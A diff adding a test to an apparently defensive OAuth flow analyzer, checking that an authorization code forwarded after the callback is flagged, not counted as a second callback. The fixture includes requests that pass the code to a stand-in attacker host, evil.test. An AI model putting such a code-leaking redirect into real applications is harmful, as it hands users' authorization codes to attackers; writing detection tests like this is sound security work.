@@ -154,3 +154,14 @@ describe('an authorization request that re-enters the AS stays one flow', () => 
     expect(analyze(events).flows).toHaveLength(2);
   });
 });
+
+describe('a code travelling on after its callback', () => {
+  it('is not a second callback of the flow (code.forwarded finds it in the events)', () => {
+    const events = capture`
+      GET https://as.test/authorize?response_type=code&client_id=app&redirect_uri=https%3A%2F%2Fapp.test%2Fcb&state=S0123456789abcdefghij -> 302 https://app.test/cb?code=C0123456789abcdef&state=S0123456789abcdefghij
+      GET https://app.test/cb?code=C0123456789abcdef&state=S0123456789abcdefghij -> 302 https://evil.test/?code=C0123456789abcdef
+      GET https://evil.test/?code=C0123456789abcdef -> 200
+    `;
+    expect(legKinds(events)).toEqual([['authorization_code', ['authorization-request', 'callback']]]);
+  });
+});
